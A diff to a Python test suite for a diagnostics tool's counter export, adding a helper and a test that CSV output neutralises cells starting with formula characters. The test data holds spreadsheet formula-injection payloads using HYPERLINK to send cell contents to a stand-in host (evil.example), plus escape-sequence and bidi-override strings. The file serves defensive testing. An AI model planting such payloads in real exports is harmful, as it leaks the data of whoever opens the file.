@@ -334,18 +334,23 @@ def prometheus_unescape(value):
     return re.sub(r'\\(.)', lambda m: "\n" if m.group(1) == "n" else m.group(1), value)
 
 
+def hostile_counters_runtime(counters_given):
+    """svc's fake runtime that answers a session with EventCounters of provider "Hostile": @counters_given, as
+    nettrace_writer.event_counters() takes them."""
+    path = os.path.join(make_dir(SVC, 0o755), "stream.nettrace")
+    with open(path, "wb") as f:
+        f.write(nettrace_writer.event_counters("Hostile", counters_given))
+    os.chmod(path, 0o644)
+    return FakeRuntime(f"trace:{path}")
+
+
 @test
 def counter_names_units_and_tags_a_runtime_chose_come_out_escaped_in_every_format():
     """A runtime names its counters, their units and tags: controls, a forged line and a bidirectional override
     must not reach a file raw, nor break the Prometheus text format (promtool), CSV or JSON."""
     evil = 'hostile\x1b[2J\r\n# HELP forged\u202e\\"q'
     tags = 'k\x1b=v\x1b"\\\n\r,team=a\u202eb\x7f'
-    stream = nettrace_writer.event_counters("Hostile", [(evil, "Shown " + evil, 42.0, tags, "")])
-    path = os.path.join(make_dir(SVC, 0o755), "stream.nettrace")
-    with open(path, "wb") as f:
-        f.write(stream)
-    os.chmod(path, 0o644)
-    fake = FakeRuntime(f"trace:{path}")
+    fake = hostile_counters_runtime([(evil, "Shown " + evil, 42.0, tags, "")])
     agent = Agent()
     outs = make_dir(SVC, 0o755)
     for fmt in ("prometheus", "csv", "json"):
@@ -378,6 +383,25 @@ def counter_names_units_and_tags_a_runtime_chose_come_out_escaped_in_every_forma
 
     events = json.load(open(os.path.join(outs, "counters.json")))["Events"]
     assert events and all(e["name"] == "Shown " + evil and e["tags"] == tags for e in events), events
+
+
+@test
+def counter_names_a_runtime_chose_are_no_formulas_in_csv():
+    """A spreadsheet takes a CSV cell that begins with =, +, - or @ for a formula: a runtime's counter name
+    must not become one in the file of whoever opens it (=HYPERLINK() sends the sheet's cells away)."""
+    counters_given = [(f'{lead}HYPERLINK("http://evil.example/?"&A1;"x")', f'{lead}HYPERLINK("http://evil/"&A1)',
+                       1.0, "", "") for lead in "=+-@"]
+    fake = hostile_counters_runtime(counters_given)
+    agent = Agent()
+    out = os.path.join(make_dir(SVC, 0o755), "counters.csv")
+    r = dsctl(agent, SVC, "counters", str(fake.pid), "--counters", "Hostile", "--duration", "3", "--format", "csv",
+              "-o", out, timeout=120)
+    assert r.returncode == 0, r
+    rows = list(csv.reader(io.StringIO(open(out, newline="").read())))
+    names = {row[2] for row in rows[1:]}
+    # the counters arrived, each as its name with a quote before it, read back whole
+    assert names == {"'" + display for _, display, _, _, _ in counters_given}, rows
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")], rows
 
 
 if __name__ == "__main__":
